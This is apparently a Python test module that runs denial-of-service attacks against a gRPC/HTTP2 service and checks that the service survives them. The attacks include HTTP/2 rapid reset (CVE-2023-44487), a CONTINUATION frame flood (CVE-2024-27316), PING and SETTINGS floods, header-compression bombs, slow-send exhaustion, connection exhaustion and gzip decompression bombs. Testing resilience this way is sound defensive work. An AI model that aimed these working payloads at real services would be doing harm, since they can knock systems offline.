"""Attacks on a service: one round each, against an address, with a token or without.

Sources: RFC 9113, "Denial-of-Service Considerations"; CVE-2023-44487 (resets), CVE-2024-27316 (CONTINUATION).
"""

import asyncio
import contextlib
import gzip
import socket
import struct
from collections.abc import Awaitable, Callable, Set
from contextlib import AsyncExitStack

from support.contract.messages import APPLY, LIMIT_BYTES
from support.wire.http1 import answer_to
from support.wire.http2 import CONTINUATION, HEADERS, PING, SETTINGS, http2_frame
from support.wire.peer import Headers, Peer, connected, grpc_headers

Flood = Callable[[str, str], Awaitable[None]]
"""An attack on an address (`host:port`), with a token."""

HELD_SECONDS = 1.0
"""How long resources are held."""
ELSEWHERE = "127.0.0.2"
"""The source address of attacks that use up all connections: limits per address do not affect other addresses."""
EMPTY_USERS = b'{"rt_segment":[' + b",".join([b"{}"] * 349_500) + b"]}"
LONGEST_ANSWER_BYTES = 2_500_000
EMPTY_USERS_OF_GRPC = b"\x0a\x00" * (LIMIT_BYTES // 2)
"""The content of a message of the maximum size: each pair of bytes is an empty user."""
FIELD = b"\x00\x01a\x0e12345678901234"
"""An encoded header field (RFC 7541, section 6.2.2)."""
HEADERS_WITHOUT_END = http2_frame(HEADERS, 1, 1, b"\x82") + http2_frame(CONTINUATION, 0, 1, FIELD * 900) * 1000
PINGS = http2_frame(PING, 0, 0, bytes(8)) * 50_000
SETTINGS_AGAIN = http2_frame(SETTINGS, 0, 0, b"") * 50_000
BOMB = gzip.compress(bytes(100 * LIMIT_BYTES))
RESET_ON_CLOSE = struct.pack("ii", 1, 0)
"""SO_LINGER option with which closing sends a reset."""


async def on_connections(
    address: str, count: int, do: Callable[[Peer], Awaitable[None]], *, takes: bool = True
) -> None:
    """Do the same on this many connections at once."""
    async with AsyncExitStack() as stack:
        peers = [await stack.enter_async_context(connected(address, takes=takes)) for _ in range(count)]
        await asyncio.gather(*map(do, peers))


def streams(headers: Headers, message: bytes = b"") -> Callable[[Peer], Awaitable[None]]:
    """Open a hundred streams that do not end for a while, each with this part of a message."""

    async def open_them(peer: Peer) -> None:
        for _ in range(100):
            stream = peer.begin(headers)
            if message:
                await peer.send(stream, message)
        await asyncio.sleep(HELD_SECONDS)

    return open_them


def raw(data: bytes) -> Callable[[Peer], Awaitable[None]]:
    """Send these bytes repeatedly, as long as they are accepted."""

    async def write(peer: Peer) -> None:
        for start in range(0, len(data), 65_536):
            if not peer.lost:
                peer.write(data[start : start + 65_536])
                await asyncio.sleep(0.01)

    return write


def applying(token: str, *more: tuple[bytes, bytes]) -> Headers:
    """The headers of an ApplySegments call."""
    return grpc_headers(APPLY, (b"authorization", token.encode()), *more)


def message_of(data: bytes, *, is_compressed: bool = False) -> bytes:
    """A framed gRPC message."""
    return struct.pack(">BI", is_compressed, len(data)) + data


def posting_headers(token: str) -> Headers:
    """The headers of an HTTP/2 POST request."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/rt-segment"),
        (b":authority", b"a"),
        (b"authorization", token.encode()),
    ]


async def amplify(address: str, token: str) -> None:
    """Four bodies of empty users, each of which causes a warning."""

    async def post(peer: Peer) -> None:
        answer = await peer.call(posting_headers(token), EMPTY_USERS)
        assert answer.http_status in {200, 429, 503}
        assert len(answer.data) < LONGEST_ANSWER_BYTES

    await on_connections(address, 4, post)


async def post_without_token(address: str, _: str) -> None:
    """Eight callers that post bodies nobody has a token for."""
    await _post_in_vain(address, "", {401})


async def post_with_made_up_token(address: str, _: str) -> None:
    """Likewise, with a token that only looks like one: it takes a turn to know."""
    await _post_in_vain(address, "0123456789abcdef" * 2, {401, 503})


async def _post_in_vain(address: str, token: str, statuses: Set[int]) -> None:
    async def post(peer: Peer) -> None:
        for _ in range(40):
            assert (await peer.call(posting_headers(token), EMPTY_USERS)).http_status in statuses

    await on_connections(address, 8, post)


async def bomb_headers(address: str, token: str) -> None:
    """A header of 4 KB in the dynamic table, referenced many times by each stream at a few bytes each."""
    await on_connections(address, 20, streams([*applying(token), *([(b"x-bomb", b"b" * 3900)] * 13)]))


async def lengthen_headers(address: str, token: str) -> None:
    """Calls with headers of 80 KB."""
    headers = applying(token, *((b"x-long-%d" % number, bytes([97 + number]) * 8000) for number in range(10)))

    async def call(peer: Peer) -> None:
        for _ in range(20):
            if not peer.lost:
                await peer.call(headers, message_of(b""))

    await on_connections(address, 8, call)


async def keep_streams(address: str, token: str) -> None:
    """Calls that never send their whole message, on all streams of twenty connections."""
    await on_connections(address, 20, streams(applying(token), message_of(bytes(1000))[:500]))


async def keep_connections(address: str, _: str) -> None:
    """More connections than an address may have."""
    host, _, port = address.rpartition(":")
    opened = []
    try:
        for _ in range(2600):
            with contextlib.suppress(OSError):
                opened.append(await asyncio.open_connection(host, int(port), local_addr=(ELSEWHERE, 0)))
        await asyncio.sleep(HELD_SECONDS)
    finally:
        for _, writer in opened:
            leave(writer)


async def come_and_go(address: str, _: str) -> None:
    """Connections that are closed as soon as they are established."""
    host, _, port = address.rpartition(":")

    async def connect() -> None:
        for _ in range(100):
            with contextlib.suppress(OSError):
                leave((await asyncio.open_connection(host, int(port), local_addr=(ELSEWHERE, 0)))[1])

    await asyncio.gather(*(connect() for _ in range(8)))


def leave(writer: asyncio.StreamWriter) -> None:
    """Close a connection with a reset."""
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_ON_CLOSE)
    writer.transport.abort()


async def send_slowly(address: str, token: str) -> None:
    """A thousand calls that arrive byte by byte."""
    message = message_of(bytes(1000))

    async def send(peer: Peer) -> None:
        begun = [peer.begin(applying(token)) for _ in range(50)]
        for place in range(6):
            for stream in begun:
                await peer.send(stream, message[place : place + 1])
            await asyncio.sleep(HELD_SECONDS / 6)

    await on_connections(address, 20, send)


async def send_head_slowly(address: str, _: str) -> None:
    """Two hundred requests whose headers arrive line by line."""
    lines = [b"GET /healthz HTTP/1.1\r\n", *([b"x-a: b\r\n"] * 6)]

    async def send() -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, OSError, TimeoutError):
            async with asyncio.timeout(HELD_SECONDS):
                await answer_to(address, *lines, every_seconds=HELD_SECONDS / 6)

    await asyncio.gather(*(send() for _ in range(200)))


async def read_nothing(address: str, token: str) -> None:
    """Calls with long responses that are not read."""
    message = message_of(EMPTY_USERS_OF_GRPC)

    async def call(peer: Peer) -> None:
        for _ in range(3):
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(HELD_SECONDS / 3):
                    await peer.send(peer.begin(applying(token)), message, end=True)
        await asyncio.sleep(HELD_SECONDS)

    await on_connections(address, 8, call, takes=False)


async def watch_health(address: str, _: str) -> None:
    """Two thousand health watches that end together; another one stays."""
    headers, request = grpc_headers("/grpc.health.v1.Health/Watch"), bytes(5)
    async with connected(address) as other:
        staying = other.begin(headers)
        await other.send(staying, request, end=True)
        async with AsyncExitStack() as stack:
            for _ in range(20):
                peer = await stack.enter_async_context(connected(address))
                for _ in range(100):
                    await peer.send(peer.begin(headers), request, end=True)
                await asyncio.sleep(0.1)  # grpcio turns some away, whoever they are, where a thousand wait to begin
            await asyncio.sleep(1)
        with contextlib.suppress(TimeoutError):
            await other.answer(staying, 1)
            raise AssertionError("it may not stay")


async def reset_at_once(address: str, token: str) -> None:
    """Streams that are reset at once (CVE-2023-44487), until the connection is closed."""

    async def begin_and_reset(peer: Peer) -> None:
        for number in range(1000):
            if peer.lost:
                return
            peer.reset(peer.begin(applying(token)))
            if number % 50 == 0:
                await asyncio.sleep(0.01)
        raise AssertionError("it may go on for ever")

    await on_connections(address, 3, begin_and_reset)


async def continue_headers(address: str, _: str) -> None:
    """Endless headers, 16 MB of them (CVE-2024-27316)."""
    await on_connections(address, 4, raw(HEADERS_WITHOUT_END))


async def ping(address: str, _: str) -> None:
    """PING frames, each of which has to be answered."""
    await on_connections(address, 4, raw(PINGS))


async def settle(address: str, _: str) -> None:
    """SETTINGS frames, each of which has to be acknowledged."""
    await on_connections(address, 4, raw(SETTINGS_AGAIN))


async def bomb_messages(address: str, token: str) -> None:
    """Compressed messages of 100 KB that expand to 100 MB."""
    bomb = message_of(BOMB, is_compressed=True)

    async def call(peer: Peer) -> None:
        for _ in range(10):
            if not peer.lost:
                await peer.call(applying(token, (b"grpc-encoding", b"gzip")), bomb)

    await on_connections(address, 8, call)
